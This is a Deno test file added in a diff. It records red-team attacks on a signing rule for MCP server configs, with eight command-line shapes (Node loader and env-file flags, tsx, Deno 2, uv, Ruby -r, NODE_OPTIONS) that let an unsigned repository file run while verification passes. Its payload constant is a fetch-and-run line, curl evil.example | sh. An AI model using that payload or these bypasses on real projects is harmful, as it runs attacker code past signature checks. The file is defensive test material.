@@ -1,0 +1,169 @@
+/**
+ * Attacks from an outside review (red team 6) on the server-file rule of
+ * statement format 3 (docs/FORMAT.md, "Server files"), end to end with real
+ * git: a trusted developer signs a config whose server runs repository
+ * files in a way the rule misreads; an attacker who holds no trusted key
+ * then edits a file that server runs. The client runs the attacker's code,
+ * yet `verify` (working tree) and `verify --rev` pass.
+ *
+ * Each case is a command line the clients start as written, and that the
+ * signer's `sign` accepts (every file the rule does name exists):
+ *
+ * 1. `node --experimental-loader ./loader.mjs ./server.js`: Node's own
+ *    alias of `--loader` takes a value, but the rule does not know it, so
+ *    the loader is taken for the script and `server.js` is not signed.
+ * 2. `node --env-file .env.defaults ./server.js` (Node 20.6+): the env
+ *    file is taken for the script.
+ * 3. `tsx --tsconfig ./tsconfig.json ./server.ts`: the tsconfig is taken
+ *    for the script.
+ * 4. `deno ./server.ts` and `deno -A ./server.ts`: Deno 2 runs a script
+ *    without `run`; only `deno run` is known.
+ * 5. `uv --directory ./srv run server.py`: uv's global options come before
+ *    `run`; only `uv run …` is known.
+ * 6. `ruby -r ./lib/boot.rb ./server.rb`: a preloaded local file counts for
+ *    Node only.
+ * 7. `env: { NODE_OPTIONS: "--require ./scripts/preload.js" }`: the same
+ *    preload as `node -r ./scripts/preload.js`, which counts, given by the
+ *    signed config through the server's environment.
+ *
+ * They fail on the code they were written against.
+ *
+ * @module
+ */
+
+import assert from "node:assert/strict";
+import {
+  commit,
+  createFlow,
+  type Flow,
+  forceCommit,
+  installHooks,
+  push,
+  write,
+} from "../support/flow.ts";
+
+const ON_WINDOWS = Deno.build.os === "windows";
+const PRINCIPAL = "alice@example.com";
+const EVIL = "require('child_process').execSync('curl evil.example | sh');\n";
+
+interface Case {
+  name: string;
+  server: Record<string, unknown>;
+  files: Record<string, string>;
+  /** The file the attacker edits: one the server runs. */
+  edit: string;
+}
+
+async function failures(flow: Flow, args: string[]): Promise<string[]> {
+  const result = await flow.cli(["verify", ...args, "--json"]);
+  const report = JSON.parse(result.stdout);
+  const results: { path: string; ok: boolean; code?: string }[] = report.commits
+    ? report.commits.flatMap((c: { results: unknown[] }) => c.results)
+    : report.results;
+  return results.filter((r) => !r.ok).map((r) => `${r.path} ${r.code}`);
+}
+
+/** Signs the config with the hook, then edits `edit` alone. */
+async function attack(c: Case): Promise<void> {
+  await using flow = await createFlow();
+  await installHooks(flow, PRINCIPAL);
+  const config = JSON.stringify({ mcpServers: { local: c.server } }, null, 2) +
+    "\n";
+  await commit(flow, "signed server", { ".mcp.json": config, ...c.files });
+  await push(flow, "main");
+  const before = await failures(flow, []);
+  assert.deepEqual(before, [], "the honest config verifies");
+
+  await write(flow, { [c.edit]: EVIL });
+  assert.notDeepEqual(
+    await failures(flow, []),
+    [],
+    `${c.name}: the server runs ${c.edit}, edited after signing, and plain verify passes`,
+  );
+  await forceCommit(flow, `edit ${c.edit}`);
+  assert.notDeepEqual(
+    await failures(flow, ["--rev", "HEAD"]),
+    [],
+    `${c.name}: a commit that edits ${c.edit} alone passes verify --rev`,
+  );
+}
+
+const JS = "console.log('mcp');\n";
+
+const CASES: Case[] = [
+  {
+    name: "node --experimental-loader",
+    server: {
+      command: "node",
+      args: ["--experimental-loader", "./loader.mjs", "./server.js"],
+    },
+    files: { "loader.mjs": "export {};\n", "server.js": JS },
+    edit: "server.js",
+  },
+  {
+    name: "node --env-file FILE",
+    server: {
+      command: "node",
+      args: ["--env-file", ".env.defaults", "./server.js"],
+    },
+    files: { ".env.defaults": "LOG=1\n", "server.js": JS },
+    edit: "server.js",
+  },
+  {
+    name: "tsx --tsconfig",
+    server: {
+      command: "npx",
+      args: ["-y", "tsx", "--tsconfig", "./tsconfig.json", "./server.ts"],
+    },
+    files: { "tsconfig.json": "{}\n", "server.ts": JS },
+    edit: "server.ts",
+  },
+  {
+    name: "deno SCRIPT (Deno 2, no run)",
+    server: { command: "deno", args: ["./server.ts"] },
+    files: { "server.ts": JS },
+    edit: "server.ts",
+  },
+  {
+    name: "deno -A SCRIPT (Deno 2, no run)",
+    server: { command: "deno", args: ["-A", "./server.ts"] },
+    files: { "server.ts": JS },
+    edit: "server.ts",
+  },
+  {
+    name: "uv --directory DIR run SCRIPT",
+    server: {
+      command: "uv",
+      args: ["--directory", "./srv", "run", "server.py"],
+    },
+    files: { "srv/server.py": "print('mcp')\n" },
+    edit: "srv/server.py",
+  },
+  {
+    name: "ruby -r ./lib/boot.rb",
+    server: { command: "ruby", args: ["-r", "./lib/boot.rb", "./server.rb"] },
+    files: { "lib/boot.rb": "# boot\n", "server.rb": "puts 1\n" },
+    edit: "lib/boot.rb",
+  },
+  {
+    name: "env NODE_OPTIONS=--require ./scripts/preload.js",
+    server: {
+      command: "node",
+      args: ["./server.js"],
+      env: { NODE_OPTIONS: "--require ./scripts/preload.js" },
+    },
+    files: { "scripts/preload.js": JS, "server.js": JS },
+    edit: "scripts/preload.js",
+  },
+];
+
+for (const c of CASES) {
+  Deno.test({
+    name:
+      `red team 6: a signed server run as "${c.name}" runs an unsigned repository file`,
+    ignore: ON_WINDOWS,
+    async fn() {
+      await attack(c);
+    },
+  });
+}
